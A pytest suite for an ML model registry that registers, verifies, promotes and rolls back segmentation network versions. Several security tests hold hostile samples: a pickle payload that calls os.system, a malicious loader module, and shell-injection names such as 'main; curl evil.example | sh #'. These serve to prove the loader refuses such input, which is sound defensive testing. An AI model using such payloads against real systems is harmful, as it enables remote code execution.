"""From a run record to a version that is checked, compared, promoted, rolled back and made again."""

import json
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from crowned import aliases, champions, crown
from evaluated import rewrite, write_values

from emseg.data.io.stack import write_stack
from emseg.data.sources import read_source
from emseg.data.synthetic import make_synthetic
from emseg.errors import InputError
from emseg.evaluation.transfer import evaluate_transfer
from emseg.files import write_text
from emseg.inference.trained import load_network
from emseg.records.checked import file_digest, write_checked
from emseg.records.evaluation import read_evaluation
from emseg.records.record import RunRecord
from emseg.registry.champions import REASON_TAG, VERDICT_TAG
from emseg.registry.described import DECISION_TAG
from emseg.registry.lineage import lineage, write_settings
from emseg.registry.load import load_segmenter
from emseg.registry.promote import promote, rollback
from emseg.registry.register import register_record
from emseg.registry.standings import standings
from emseg.registry.versions import find_version, load_version, read_registry
from emseg.settings import PromotionSettings

RULE = PromotionSettings(
    metric="v_rand",
    minimum_gain=0.0,
    confidence=0.95,
    not_worse={"pixel_error": 0.01},
    minimum_sections=2,
    minimum_seeds=1,
    clean_git=True,
)


def versions(client):
    return read_registry(client).versions


def with_another_rate(record, rate):
    """Make a record one of another recipe."""
    settings = record.read().settings
    training = settings.training.model_copy(update={"learning_rate": rate})
    record.update(settings=settings.model_copy(update={"training": training}))


def unmet(decision):
    return [condition.name for condition in decision.conditions if not condition.is_met]


def test_a_run_becomes_one_version_that_gives_the_same_probability(store, evaluated, emseg, stack):
    record = evaluated()
    number = register_record(store, record)
    assert register_record(store, record) == number
    (version,) = versions(store)
    assert version.number == number
    assert version.origin.model == "residual_unet"
    network, normalization = load_network(record)
    from emseg.inference import predict

    section = stack[0][0]
    segmenter = load_segmenter(f"models:/cortex/{number}")
    expected = predict(network, section[None], normalization=normalization)[0]
    np.testing.assert_array_equal(next(segmenter.segment([section].__getitem__, 1, "probability")), expected)
    assert emseg("export", version.uri, "--out", "travelling")[0] == 0
    assert load_segmenter("travelling").fingerprint == version.tags["emseg.digest"] == segmenter.fingerprint
    for reference in (version.run_id, str(record.folder.parent), "travelling"):
        (found,) = load_segmenter(reference).segment([section].__getitem__, 1, "probability")
        np.testing.assert_array_equal(found, expected)


def test_the_network_of_the_registry_takes_any_size_and_normalises_itself(store, evaluated, stack, monkeypatch):
    import mlflow

    monkeypatch.setenv("MLFLOW_ALLOW_PICKLE_DESERIALIZATION", "false")
    record = evaluated()
    register_record(store, record)
    model = mlflow.pyfunc.load_model("models:/cortex/1")
    network, normalization = load_network(record)
    from emseg.inference import predict

    for height, width in ((32, 32), (64, 48)):
        images = stack[0][:3, None, :height, :width].astype(np.float32)
        expected = predict(network, stack[0][:3, :height, :width], normalization=normalization)
        np.testing.assert_allclose(model.predict(images)[:, 0], expected, atol=1e-4)


def test_a_version_whose_network_sees_neighbours_gives_what_its_run_gives(store, evaluated, stack):
    import mlflow

    from emseg.inference import predict

    record = evaluated(neighbours=1)
    number = register_record(store, record)
    network, normalization = load_network(record)
    expected = predict(network, stack[0], normalization=normalization)
    segmenter = load_segmenter(f"models:/cortex/{number}")
    np.testing.assert_array_equal(list(segmenter.segment(stack[0].__getitem__, 9, "probability")), expected)
    # The registry's network itself takes the sections it sees as channels.
    model = mlflow.pyfunc.load_model(f"models:/cortex/{number}")
    found = model.predict(np.stack([stack[0][z - 1 : z + 2] for z in range(1, 8)]).astype(np.float32))
    np.testing.assert_allclose(found[:, 0], expected[1:8], atol=1e-4)


def test_no_file_of_a_version_is_a_pickle(store, evaluated, tmp_path):
    import pickle

    import mlflow

    register_record(store, evaluated())
    folder = Path(mlflow.artifacts.download_artifacts("models:/cortex/1", dst_path=str(tmp_path / "model")))
    files = [file for file in folder.rglob("*") if file.is_file()]
    assert {"weights.safetensors", "model-card.md", "check.npz"} <= {file.name for file in files}
    for file in files:
        with pytest.raises(Exception):  # noqa: B017
            pickle.loads(file.read_bytes())
    card = next(file for file in files if file.name == "model-card.md").read_text()
    assert "Protocol heldout" in card
    assert "Use and limits" in card


def artifacts_of(store, version):
    import mlflow

    return Path(mlflow.artifacts.download_artifacts(version.uri))


@pytest.mark.parametrize("name", ["weights.safetensors", "record.json", "metrics.json", "check.npz"])
def test_a_changed_byte_is_refused(store, evaluated, name):
    register_record(store, evaluated())
    (version,) = versions(store)
    file = artifacts_of(store, version) / "extra_files" / name
    content = bytearray(file.read_bytes())
    content[len(content) // 2] ^= 1
    file.write_bytes(content)
    with pytest.raises(InputError, match="not those that were registered"):
        load_segmenter(version.uri)


@pytest.mark.parametrize("content", [b"", b"\x80\x04cos\nsystem\n(S'true'\ntR.", b"garbage"])
def test_a_pickle_in_place_of_weights_is_refused_even_with_its_digest(store, evaluated, content, tmp_path):
    from emseg.registry.package import open_package, package_digest, write_package

    record = evaluated()
    write_package(record, tmp_path / "package")
    (tmp_path / "package" / "weights.safetensors").write_bytes(content)
    with pytest.raises(InputError, match="cannot be loaded"):
        open_package(tmp_path / "package", "model", package_digest(tmp_path / "package"))


def test_weights_that_do_not_reproduce_the_test_output_are_refused(evaluated, tmp_path):
    from safetensors.torch import load_file, save_file

    from emseg.registry.package import open_package, package_digest, write_package

    write_package(evaluated(), tmp_path / "package")
    file = tmp_path / "package" / "weights.safetensors"
    weights = load_file(file)
    weights["head.weight"] = weights["head.weight"] + 1
    save_file(weights, file)
    record = RunRecord(tmp_path / "package")
    record.update(weights_sha256=file_digest(file))
    cells = json.loads((tmp_path / "package" / "cells.json").read_text())
    write_values(tmp_path / "package" / "cells.json", cells | {"made_from": record.read().made_from.model_dump()})
    with pytest.raises(InputError, match="does not reproduce its test output"):
        open_package(tmp_path / "package", "model", package_digest(tmp_path / "package"))


def test_the_first_champion_a_better_one_and_a_worse_one(store, evaluated, rescored):
    for seed, value in ((0, [0.80, 0.81]), (1, [0.90, 0.91]), (2, [0.70, 0.71])):
        # Recipes differ, so that seeds of one are not pooled.
        record = rescored(evaluated(seed), v_rand=value, pixel_error=[0.1, 0.1])
        with_another_rate(record, 0.001 * (seed + 1))
        register_record(store, record)
    first = promote(store, RULE, "1")
    assert first.promoted
    assert first.champion_before is None
    assert aliases(store) == {"champion": 1}
    worse = promote(store, RULE, "3")
    assert unmet(worse) == ["better than the champion"]
    assert aliases(store) == {"champion": 1, "challenger": 3}
    assert promote(store, RULE, "2", dry_run=True).champion_after == 2
    assert aliases(store) == {"champion": 1, "challenger": 3}
    better = promote(store, RULE)
    assert better.version == 2
    assert better.promoted
    assert aliases(store) == {"champion": 2, "previous": 1, "challenger": 3}
    assert find_version(store, "2").tags[DECISION_TAG].startswith("promoted on ")
    link = store.get_model_version("cortex-champion", "2")
    assert {key: link.tags[f"champion.{key}"] for key in ("version", "judged_against", "decision")} == {
        "version": "2",
        "judged_against": "1",
        "decision": "promoted",
    }
    assert "| better than the champion | yes |" in link.description
    assert "judged against version 1" in link.description
    refused = find_version(store, "3")
    assert "judged against version 1; not met: better than the champion" in refused.tags[DECISION_TAG]
    (text, kept) = sorted(file.path for file in store.list_artifacts(refused.run_id, "decisions"))[::-1]
    kept = json.loads(Path(store.download_artifacts(refused.run_id, kept)).read_text())
    assert kept["champion_before"] == kept["champion_after"] == 1
    assert kept["conditions"][0]["name"] == "loads safely"
    assert "**no**" in Path(store.download_artifacts(refused.run_id, text)).read_text()
    (group,) = standings(store, read_registry(store))
    assert [version.version for version in group.versions] == [2, 1, 3]
    assert group.versions[1].difference.mean == pytest.approx(-0.1)
    assert group.versions[1].gain == pytest.approx(-0.1)
    with pytest.raises(InputError, match="already"):
        promote(store, RULE, "champion")
    back = rollback(store)
    assert back.champion_after == 1
    assert aliases(store)["champion"] == 1
    assert "previous" not in aliases(store)
    with pytest.raises(InputError, match="no champion to go back to"):
        rollback(store)


@pytest.mark.parametrize(
    ("change", "name"),
    [
        ({"lineage": {"git_dirty": True}}, "clean commit"),
        ({"lineage": {"git_commit": None}}, "clean commit"),
        ({"metrics": {"collapsed": True}}, "not collapsed"),
        ({"record": {"protocol": "paper"}, "metrics": {"protocol": "paper", "leaks": True}}, "honest protocol"),
        ({"rows": 1, "metrics": {"sections": 1}}, "sections"),
    ],
)
def test_a_condition_that_is_not_met_stops_it_and_force_records_why(store, evaluated, change, name):
    record = evaluated()
    if "lineage" in change:
        record.update(lineage=record.read().lineage.model_copy(update=change["lineage"]))
    record.update(**change.get("record", {}))
    run = record.folder.parent
    table = pd.read_csv(run / "evaluation" / "scores.csv").head(change.get("rows", 99))
    rewrite(run, table, **change.get("metrics", {}))
    register_record(store, record)
    decision = promote(store, RULE)
    assert unmet(decision) == [name]
    assert not decision.promoted
    assert champions(store) == []
    forced = promote(store, RULE, force="it is all we have")
    assert forced.promoted
    assert forced.reason == "it is all we have"
    tags = find_version(store, "champion").tags
    assert (tags[REASON_TAG], tags[VERDICT_TAG]) == ("it is all we have", "promoted by force")


def test_seeds_of_one_recipe_are_counted_and_pooled(store, evaluated):
    needs_two = RULE.model_copy(update={"minimum_seeds": 2})
    register_record(store, evaluated(0))
    assert unmet(promote(store, needs_two)) == ["seeds"]
    register_record(store, evaluated(1))
    assert promote(store, needs_two, "1").promoted


def test_a_metric_that_gets_worse_beyond_its_margin_stops_it(store, evaluated, rescored):
    register_record(store, rescored(evaluated(0), v_rand=[0.8, 0.8], pixel_error=[0.10, 0.10]))
    record = rescored(evaluated(1), v_rand=[0.9, 0.9], pixel_error=[0.12, 0.12])
    record.update(settings=record.read().settings.model_copy(update={"loss": "bce_dice"}))
    register_record(store, record)
    promote(store, RULE, "1")
    assert unmet(promote(store, RULE, "2")) == ["pixel_error not worse"]


def test_another_version_of_the_data_does_not_rank_and_says_what_to_bring(store, evaluated):
    register_record(store, evaluated(0))
    record = evaluated(1)
    record.update(data_digest="e" * 32)
    rewrite(record.folder.parent, data_digest="e" * 32)
    register_record(store, record)
    with pytest.raises(InputError, match="do not rank together"):
        promote(store, RULE)
    promote(store, RULE, "1")
    decision = promote(store, RULE, "2")
    assert unmet(decision) == ["same test"]
    evidence = next(c.evidence for c in decision.conditions if c.name == "same test")
    assert f"bring in cortex with digest {'e' * 32}" in evidence
    assert [(len(group.versions), group.has_champion) for group in standings(store, read_registry(store))] == [
        (1, True),
        (1, False),
    ]
    assert promote(store, RULE, "2", force="the data moved on").promoted


def test_a_damaged_version_cannot_be_forced(store, evaluated):
    register_record(store, evaluated())
    (version,) = versions(store)
    (artifacts_of(store, version) / "extra_files" / "weights.safetensors").write_bytes(b"")
    decision = promote(store, RULE, force="please")
    assert unmet(decision) == ["loads safely"]
    assert not decision.promoted


def test_aliases_torn_by_a_kill_are_put_right(store, evaluated):
    for seed in range(3):
        register_record(store, evaluated(seed))
    crown(store, 1, 2, 3)
    # As if the last promotion had been killed after the write that decides.
    store.set_registered_model_alias("cortex", "champion", "2")
    store.set_registered_model_alias("cortex", "previous", "1")
    assert {v.number: v.aliases for v in versions(store)} == {3: ("champion",), 2: ("previous",), 1: ()}
    assert find_version(store, "champion").number == 3
    promote(store, RULE, "1")
    assert aliases(store) == {"champion": 3, "previous": 2, "challenger": 1}


PROMOTE = """
import sys
from emseg.errors import InputError
from emseg.settings import PromotionSettings
from emseg.registry.promote import promote
from emseg.tracking.store import connect
rule = PromotionSettings(**{rule})
client = connect()
print("ready", flush=True)
sys.stdin.readline()
try:
    print(promote(client, rule, sys.argv[1]).promoted)
except InputError as error:
    print(error)
"""


def test_two_promotions_at_once_cannot_both_win(store, evaluated, rescored):
    # Each is better than the champion, neither is better than the other.
    for seed, value in ((0, [0.8, 0.8]), (1, [0.9, 0.9]), (2, [0.9, 0.9])):
        record = rescored(evaluated(seed), v_rand=value, pixel_error=[0.1, 0.1])
        with_another_rate(record, 0.001 * (seed + 1))
        register_record(store, record)
    assert promote(store, RULE, "1").promoted
    code = PROMOTE.format(rule=RULE.model_dump())
    processes = [
        subprocess.Popen(
            [sys.executable, "-c", code, str(number)], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True
        )
        for number in (2, 3)
    ]
    for process in processes:
        assert process.stdout.readline() == "ready\n"
    for process in processes:
        process.stdin.write("go\n")
        process.stdin.flush()
    results = [process.communicate(timeout=120)[0].strip() for process in processes]
    assert sorted(results) == ["False", "True"]
    history = champions(store)
    assert len(history) == 2
    found = aliases(store)
    assert found["champion"] == history[-1]
    assert found["previous"] == 1
    assert found["challenger"] != found["champion"]


def test_rollback_as_often_as_there_is_history(store, evaluated):
    for seed in range(3):
        register_record(store, evaluated(seed))
    crown(store, 1, 2, 3)
    assert [rollback(store).champion_after for _ in range(2)] == [2, 1]
    assert aliases(store) == {"champion": 1}


def test_references_and_what_is_missing(store, evaluated):
    with pytest.raises(InputError, match="nothing is registered"):
        load_segmenter()
    with pytest.raises(InputError, match="nothing is registered"):
        promote(store, RULE)
    register_record(store, evaluated())
    crown(store, 1)
    for reference in ("1", "champion", "models:/cortex@champion", "models:/cortex/1"):
        assert find_version(store, reference).number == 1
    with pytest.raises(InputError, match="no version 9"):
        find_version(store, "9")
    for nonsense in ("nothing/here", "f" * 32):
        with pytest.raises(InputError):
            load_segmenter(nonsense)


def test_lineage_leads_back_to_settings_that_train_the_same_weights(
    store, evaluated, tmp_path, tiny_params, source, tiny_settings
):
    from safetensors.torch import load_file

    from emseg.settings import load_settings
    from emseg.training.plan import RunPlan
    from emseg.training.run import train_model

    record = evaluated(seed=3)
    register_record(store, record)
    found = lineage(store, "1")
    assert found.data.digest == source.digest
    assert found.commit == "c" * 40
    assert any(f"--seed 3 --settings {'runs/again'}" in command for command in found.commands)
    assert found.weights_sha256 in found.commands[-1]
    write_settings(store, "1", tmp_path / "again.yaml", tiny_params.parent)
    again = load_settings(tmp_path / "again.yaml")
    same = train_model(RunPlan("residual_unet", 0, 3, again, source), tmp_path / "again")
    first, second = load_file(record.weights_file), load_file(same.weights_file)
    assert all((first[name] == second[name]).all() for name in first)


def test_a_version_is_loaded_with_what_the_registry_recorded(store, evaluated, tmp_path):
    record = evaluated()
    register_record(store, record)
    (version,) = versions(store)
    segmenter = load_version(store, version, tmp_path / "fetched")
    assert segmenter.threshold == read_evaluation(record.evaluation_folder).threshold
    assert segmenter.fingerprint == version.tags["emseg.digest"]


def test_settings_of_a_version_whose_model_has_a_name_like_a_number_can_be_read(store, evaluated, tiny_params):
    from emseg.settings import load_settings

    record = evaluated()
    record.update(model="1e5")
    rewrite(record.folder.parent, model="1e5")
    register_record(store, record)
    write_settings(store, "1", Path("again.yaml"), tiny_params.parent)
    assert load_settings("again.yaml").benchmark == ["1e5"]


def test_a_first_champion_that_is_worse_than_no_network_is_warned_of(store, evaluated, rescored, capsys):
    record = rescored(evaluated(), v_rand=[0.0, 0.0])
    baselines = pd.read_csv(record.evaluation_folder / "baselines.csv").groupby("model")["v_rand"].mean()
    register_record(store, record)
    assert promote(store, RULE, dry_run=True).promoted
    (warning,) = capsys.readouterr().err.splitlines()
    assert "version 1 is worse than no network at all on the same sections: its v_rand is 0.0000" in warning
    for name, value in baselines.items():
        assert (f"{name} has {value:.4f}" in warning) == (value > 0)
    assert promote(store, RULE).promoted
    register_record(store, rescored(evaluated(seed=1), v_rand=[1.0, 1.0]))
    capsys.readouterr()
    promote(store, RULE, "2")
    assert not capsys.readouterr().err


EVIL = """
from pathlib import Path
Path({proof!r}).touch()
def _load_pyfunc(path):
    raise SystemExit("run")
"""


@pytest.mark.parametrize("way", ["loader module with code", "model code path", "swapped network"])
def test_nothing_that_a_version_brings_along_is_run_or_believed(store, evaluated, stack, tmp_path, way):
    import yaml
    from fastapi.testclient import TestClient

    from emseg.registry.serve import champion_of_registry, make_app

    for seed in (0, 1):
        register_record(store, evaluated(seed))
    crown(store, 1)
    section = stack[0][0]
    expected = next(load_segmenter().segment([section].__getitem__, 1, "probability"))
    first, second = (artifacts_of(store, find_version(store, number)) for number in "12")
    proof = tmp_path / "evil-has-run"
    described = yaml.safe_load((first / "MLmodel").read_text())
    python = described["flavors"]["python_function"]
    (first / "code").mkdir(exist_ok=True)
    for file in (first / "code" / "evil.py", first / "evil.py"):
        file.write_text(EVIL.format(proof=str(proof)))
    if way == "loader module with code":
        python |= {"loader_module": "evil", "code": "code"}
    elif way == "model code path":
        python |= {"loader_module": "mlflow.pyfunc.model", "model_code_path": "evil.py"}
    else:
        (network,) = first.rglob("*.pt2")
        network.write_bytes(next(second.rglob("*.pt2")).read_bytes())
    (first / "MLmodel").write_text(yaml.safe_dump(described))
    for reference in ("models:/cortex@champion", "models:/cortex/1"):
        found = next(load_segmenter(reference).segment([section].__getitem__, 1, "probability"))
        np.testing.assert_array_equal(found, expected)
    import io

    import tifffile

    stream = io.BytesIO()
    tifffile.imwrite(stream, section, photometric="minisblack")
    client = TestClient(make_app(champion_of_registry()))
    answer = client.post("/segment?kind=probability", content=stream.getvalue())
    np.testing.assert_array_equal(tifffile.imread(io.BytesIO(answer.content))[0], expected)
    assert client.post("/invocations", json={"inputs": [[[[0.0]]]]}).status_code == 404
    assert lineage(store, "1").version == 1
    assert "loads safely" not in unmet(promote(store, RULE, "2", dry_run=True))
    assert not proof.exists()


EVIL_NAME = "main; curl evil | sh #"


def test_a_changed_record_prints_no_commands_and_a_registered_one_only_quoted_ones(store, evaluated):
    import shlex

    record = evaluated()
    evil = "main; curl evil.example | sh #"
    before = record.read()
    honest = before.lineage.model_dump()
    write_values(record.folder / "record.json", before.model_dump() | {"lineage": honest | {"git_commit": evil}})
    with pytest.raises(InputError, match="git_commit"):
        register_record(store, record)
    write_checked(record.folder / "record.json", before)
    # What is a name all the same may hold anything that a shell obeys.
    record.update(model=EVIL_NAME)
    rewrite(record.folder.parent, model=EVIL_NAME)
    register_record(store, record)
    (command,) = [c for c in lineage(store, "1").commands if c.startswith("emseg train")]
    assert shlex.split(command)[:3] == ["emseg", "train", EVIL_NAME]
    file = artifacts_of(store, find_version(store, "1")) / "extra_files" / "record.json"
    file.write_text(file.read_text().replace("main;", "dev ;"))
    for what in (lineage, lambda *a: write_settings(*a, Path("again.yaml"))):
        with pytest.raises(InputError, match="not those that were registered"):
            what(store, "1")
    assert not Path("again.yaml").exists()


def test_champions_are_shown_on_every_dataset_and_scored_there_without_a_run_folder(
    store, evaluated, emseg, tmp_path, monkeypatch
):
    # Drawing takes long.
    monkeypatch.setattr("emseg.reporting.figures.save_figure", lambda _, file: write_text(file, ""))
    for name, seed in (("other", 8), ("not_seen", 9)):
        images, labels = make_synthetic(2, 64, seed)
        write_stack(tmp_path / "data/sources" / name / "images.tif", images)
        write_stack(tmp_path / "data/sources" / name / "labels.tif", labels)
    record = evaluated()
    promote(store, RULE, str(register_record(store, record)))
    expected = evaluate_transfer(record, read_source(tmp_path / "data/sources/other", "other"))
    home = read_evaluation(record.evaluation_folder).metrics["v_rand"].mean
    shutil.rmtree(tmp_path / "runs")
    before = standings(store, read_registry(store))
    champion = "models:/cortex@champion"
    assert emseg("evaluate", champion)[0] == 2
    assert emseg("evaluate", champion, "--data", "other")[0] == 0
    code, out, _ = emseg("leaderboard", "--transfer", "--json")
    assert code == 0
    rows = {row["dataset"]: row for row in json.loads(out)}
    assert set(rows) == {"cortex", "other"}
    assert rows["other"]["v_rand"] == pytest.approx(expected.metrics["v_rand"].mean, abs=1e-6)
    assert rows["cortex"]["v_rand"] == pytest.approx(home, abs=1e-6)
    shown = emseg("leaderboard", "--transfer")[1]
    assert "emseg evaluate models:/cortex/1 --data not_seen" in shown
    assert "not_seen" in shown.splitlines()[1]
    # Published, they stand in the champion's own run, and nothing ranks them.
    assert emseg("publish")[0] == 0
    assert "transfer/other/v_rand" in store.get_run(find_version(store, champion).run_id).data.metrics
    assert standings(store, read_registry(store)) == before
    assert emseg("leaderboard")[0] == 2


def test_a_version_that_was_tested_on_thousands_of_sections_is_registered_and_judged(store, evaluated, monkeypatch):
    from emseg.registry import scores

    monkeypatch.setattr("emseg.evaluation.bootstrap._RESAMPLES", 10)
    for seed, value in ((0, 0.8), (1, 0.9)):
        record = evaluated(seed)
        with_another_rate(record, 0.001 * (seed + 1))
        run = record.folder.parent
        table = pd.read_csv(run / "evaluation" / "scores.csv")
        many = pd.concat([table] * 2500).assign(section=range(5000), v_rand=value, pixel_error=0.1)
        rewrite(run, many, sections=5000)
        register_record(store, record)
        if seed == 0:
            assert promote(store, RULE).promoted
    monkeypatch.setattr(scores, "_tables", {})
    decision = promote(store, RULE)
    assert (decision.promoted, len(decision.sections)) == (True, 5000)
    assert len(store.get_model_version("cortex-champion", "2").description) < 5000
